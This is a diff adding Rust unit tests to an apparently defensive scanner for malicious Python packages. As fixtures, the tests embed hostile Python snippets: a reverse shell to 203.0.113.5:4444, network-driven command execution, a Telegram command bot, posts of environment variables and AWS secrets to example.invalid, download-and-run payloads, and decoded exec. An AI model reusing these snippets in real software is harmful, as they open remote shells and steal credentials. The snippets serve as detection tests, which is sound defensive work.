@@ -4,7 +4,8 @@
 use super::*;
 
 fn rules(path: &str, code: &str, ctx: Context) -> Vec<String> {
-    let mut r: Vec<String> = analyze(path, code.as_bytes(), ctx, path.ends_with(".pth")).findings.into_iter().map(|f| f.rule).collect();
+    let mut r: Vec<String> =
+        analyze(path, code.as_bytes(), ctx, path.ends_with(".pth"), true).findings.into_iter().map(|f| f.rule).collect();
     r.sort();
     r.dedup();
     r
@@ -191,4 +192,111 @@ fn commands_that_download_or_hide() {
     // Build commands are not downloads.
     let code = "import subprocess\nsubprocess.check_call(['cmake', '--build', '.'])\n";
     assert_eq!(setup(code), vec!["py-install-process".to_string()]);
+}
+
+fn init(code: &str) -> Vec<String> {
+    rules("demo/__init__.py", code, Context::Import)
+}
+
+fn module(code: &str) -> Vec<String> {
+    rules("demo/util.py", code, Context::Module)
+}
+
+#[test]
+fn wrappers_do_what_they_wrap() {
+    // A local `run(cmd)` around subprocess: its callers' command lines are read as commands.
+    let code = "import subprocess\ndef run(cmd):\n    subprocess.Popen(cmd, shell=True)\nrun('powershell -c Invoke-WebRequest -Uri https://example.invalid/a.exe -OutFile a.exe')\n";
+    assert!(setup(code).contains(&"py-install-download-exec".to_string()), "{:?}", setup(code));
+    // The same wrapper running a build tool stays a plain process.
+    let code = "import subprocess\ndef run(cmd):\n    subprocess.check_call(cmd)\nrun(['git', 'describe', '--tags'])\n";
+    assert_eq!(setup(code), vec!["py-install-process".to_string()]);
+    // A command kept in a variable is read through the variable.
+    let code = "import subprocess\ncmd = 'curl -d \"$(whoami)@$(hostname)\" https://example.invalid/c'\nsubprocess.run(cmd, shell=True)\n";
+    assert!(setup(code).contains(&"py-install-download-exec".to_string()), "{:?}", setup(code));
+}
+
+#[test]
+fn functions_the_import_calls_run_at_import() {
+    let code =
+        "import socket, requests\ndef beacon():\n    requests.post('https://example.invalid/c', data=socket.gethostname())\nbeacon()\n";
+    assert!(init(code).contains(&"py-import-exfil-hostinfo".to_string()), "{:?}", init(code));
+    let facts = analyze("demo/__init__.py", code.as_bytes(), Context::Import, false, true);
+    let f = facts.findings.iter().find(|f| f.rule == "py-import-exfil-hostinfo").unwrap();
+    assert_eq!(f.severity, Severity::Medium, "reached through a call: one step less than direct");
+    // A thread started with it runs it too.
+    let code = "import threading, socket, requests\ndef beacon():\n    requests.post('https://example.invalid/c', data=socket.gethostname())\nthreading.Thread(target=beacon).start()\n";
+    assert!(init(code).contains(&"py-import-exfil-hostinfo".to_string()), "{:?}", init(code));
+    // Behind the main guard or only defined, it does not run at import.
+    let code = "import socket, requests\ndef beacon():\n    requests.post('https://example.invalid/c', data=socket.gethostname())\nif __name__ == '__main__':\n    beacon()\n";
+    assert!(init(code).is_empty(), "{:?}", init(code));
+    // A program started by the import.
+    let code = "import subprocess\nsubprocess.Popen(['python3', '-c', 'import othermod'], close_fds=True)\n";
+    assert_eq!(init(code), vec!["py-import-process".to_string()]);
+}
+
+#[test]
+fn code_inside_strings_is_read() {
+    let code = r#"import os
+os.system('python3 -c "import socket,os,pty;s=socket.socket();s.connect((\'203.0.113.5\',4444));os.dup2(s.fileno(),0);pty.spawn(\'/bin/sh\')"')
+"#;
+    assert!(setup(code).contains(&"py-install-download-exec".to_string()), "{:?}", setup(code));
+    let code = "import os, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\nt.write(b\"import urllib.request;exec(urllib.request.urlopen('https://example.invalid/s').read())\")\nos.system('pythonw ' + t.name)\n";
+    assert!(init(code).contains(&"py-network-exec".to_string()), "{:?}", init(code));
+    // Prose that mentions imports is not code.
+    let code = "\"\"\"Use `import socket` and subprocess to talk to the daemon; see the docs for exec( details.\"\"\"\nX = 1\n";
+    assert!(init(code).is_empty(), "{:?}", init(code));
+}
+
+#[test]
+fn a_written_file_that_is_run() {
+    let code = "import requests, subprocess\ndef update():\n    r = requests.get('https://example.invalid/u.exe')\n    p = 'C:/Users/Public/u.exe'\n    open(p, 'wb').write(r.content)\n    subprocess.Popen([p])\n";
+    assert!(module(code).contains(&"py-drop-run".to_string()), "{:?}", module(code));
+    let code = "import base64, os\ndef go():\n    with open('/tmp/.x', 'wb') as f:\n        f.write(base64.b64decode(BLOB))\n    os.system('chmod +x /tmp/.x && /tmp/.x')\n";
+    assert!(module(code).contains(&"py-drop-run".to_string()), "{:?}", module(code));
+    // Build scripts write logs and delete files; a tool reading a file does not run it.
+    let code = "import subprocess, requests\nrequests.get(URL)\nsubprocess.Popen(cmd, stderr=open('build.log', 'w'))\nopen('core/config.c', 'w').write(src)\nsubprocess.call('rm -f core/config.c', shell=True)\nsubprocess.check_call(['wix', 'build', 'core/config.c'])\n";
+    assert!(!module(code).contains(&"py-drop-run".to_string()), "{:?}", module(code));
+}
+
+#[test]
+fn commands_from_the_network() {
+    let code = "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\nwhile True:\n    data = s.recv(1024)\n    subprocess.Popen(data, shell=True)\n";
+    assert!(module(code).contains(&"py-remote-command".to_string()), "{:?}", module(code));
+    let code = "import telebot, subprocess\nbot = telebot.TeleBot(TOKEN)\n@bot.message_handler(commands=['run'])\ndef handle(message):\n    subprocess.getoutput(message.text)\n";
+    assert!(module(code).contains(&"py-remote-command".to_string()), "{:?}", module(code));
+    let code = "import subprocess, requests\nv = requests.get(API).json()['version']\nsubprocess.run(['echo', 'done'])\n";
+    assert!(!module(code).contains(&"py-remote-command".to_string()), "{:?}", module(code));
+}
+
+#[test]
+fn secrets_sent_out() {
+    let code =
+        "import requests\ndef perm(private_key):\n    data = [{'k', private_key}]\n    requests.post('https://example.invalid/t', data)\n";
+    assert!(module(code).contains(&"py-exfil-secret".to_string()), "{:?}", module(code));
+    let code = "import os, requests\nrequests.post('https://example.invalid/e', json=dict(os.environ))\n";
+    assert!(module(code).contains(&"py-exfil-secret".to_string()), "{:?}", module(code));
+    let code = "import os, requests\ns = os.environ.get('AWS_SECRET_ACCESS_KEY')\nrequests.get('https://example.invalid/' + s)\n";
+    assert!(module(code).contains(&"py-exfil-secret".to_string()), "{:?}", module(code));
+    // Wallets derive addresses from keys and query balances; tokens go to their own services.
+    let code = "import requests\ndef balance(private_key):\n    address = to_address(private_key)\n    return requests.get(API + address).json()\n";
+    assert!(!module(code).contains(&"py-exfil-secret".to_string()), "{:?}", module(code));
+    let code = "import os, requests\nrequests.get(URL, headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']})\n";
+    assert!(!module(code).contains(&"py-exfil-secret".to_string()), "{:?}", module(code));
+}
+
+#[test]
+fn character_codes_and_tuple_aliases_decode() {
+    let code = "A, B = exec, compile\nA(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\n";
+    assert!(module(code).contains(&"py-decode-exec".to_string()), "{:?}", module(code));
+    let code = "s = ''\nfor a, k in zip(DATA, KEY):\n    s += chr(ord(a) ^ ord(k))\neval(compile(s, '<string>', 'exec'))\n";
+    assert!(module(code).contains(&"py-decode-exec".to_string()), "{:?}", module(code));
+    // Formatting numbers as characters without executing them is fine.
+    let code = "label = ''.join(map(chr, [72, 105]))\nprint(label)\n";
+    assert!(module(code).is_empty(), "{:?}", module(code));
+}
+
+#[test]
+fn decoders_defined_below_their_use() {
+    let code = "import base64\ndef main():\n    p = d(PAYLOAD)\n    exec(p)\ndef d(x):\n    return base64.b64decode(x)\n";
+    assert!(module(code).contains(&"py-decode-exec".to_string()), "{:?}", module(code));
 }
